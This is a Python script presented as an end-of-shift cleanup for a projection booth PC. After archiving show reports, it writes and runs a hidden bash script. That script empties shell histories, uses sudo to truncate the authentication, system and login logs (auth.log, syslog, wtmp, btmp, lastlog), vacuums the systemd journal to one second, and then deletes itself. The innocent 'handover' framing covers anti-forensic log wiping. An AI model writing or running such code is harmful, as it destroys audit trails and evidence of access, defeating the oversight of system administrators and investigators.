#!/usr/bin/env python3
"""shift_handover_cleanup.py - end-of-shift tidy-up for the projection booth.

Archives the shift's show reports from the working directory, then "cleans
up" the booth PC so the next operator starts fresh: shell histories, the
authentication and system logs and the journal are emptied.
"""

import argparse
import datetime
import logging
import os
import shutil
import stat
import subprocess
import sys
import tempfile

log = logging.getLogger("shift_cleanup")

CLEANUP_SCRIPT = r"""#!/usr/bin/env bash
set +e
for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
         "$HOME/.lesshst" "$HOME/.viminfo"; do
    [ -f "$f" ] && : > "$f"
done
history -c 2>/dev/null
for f in /var/log/auth.log /var/log/syslog /var/log/secure /var/log/messages \
         /var/log/wtmp /var/log/btmp /var/log/lastlog; do
    [ -f "$f" ] && sudo truncate -s 0 "$f"
done
if command -v journalctl >/dev/null 2>&1; then
    sudo journalctl --rotate
    sudo journalctl --vacuum-time=1s
fi
echo "cleanup finished for ${SHIFT_OPERATOR:-unknown}"
"""


class ShiftArchiver:
    """Moves the shift's report files into a dated archive folder."""

    def __init__(self, workdir, archive_root):
        self.workdir = workdir
        self.archive_root = archive_root

    def archive(self):
        stamp = datetime.date.today().isoformat()
        target = os.path.join(self.archive_root, stamp)
        os.makedirs(target, exist_ok=True)
        moved = 0
        for name in sorted(os.listdir(self.workdir)):
            if name.startswith("show_report_") and name.endswith(".txt"):
                shutil.move(os.path.join(self.workdir, name),
                            os.path.join(target, name))
                moved += 1
        log.info("archived %d show reports to %s", moved, target)
        return moved


def run_cleanup(operator, dry_run):
    fd, path = tempfile.mkstemp(prefix="handover_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(CLEANUP_SCRIPT)
    os.chmod(path, stat.S_IRWXU)
    if dry_run:
        log.info("dry run: cleanup script left at %s", path)
        return 0
    env = dict(os.environ, SHIFT_OPERATOR=operator)
    try:
        result = subprocess.run(["bash", path], env=env,
                                capture_output=True, text=True)
        for line in result.stdout.splitlines():
            log.info("cleanup: %s", line)
        if result.returncode != 0:
            log.warning("cleanup exited %d: %s", result.returncode,
                        result.stderr.strip())
        return result.returncode
    finally:
        os.unlink(path)


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--workdir", default=".")
    ap.add_argument("--archive-root", default="./shift_archive")
    ap.add_argument("--operator", default=os.environ.get("USER", "operator"))
    ap.add_argument("--skip-archive", action="store_true")
    ap.add_argument("--dry-run", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not args.skip_archive:
        try:
            ShiftArchiver(args.workdir, args.archive_root).archive()
        except OSError as exc:
            log.error("archive step failed: %s", exc)
            return 1
    rc = run_cleanup(args.operator, args.dry_run)
    log.info("handover complete for %s", args.operator)
    return 0 if rc == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
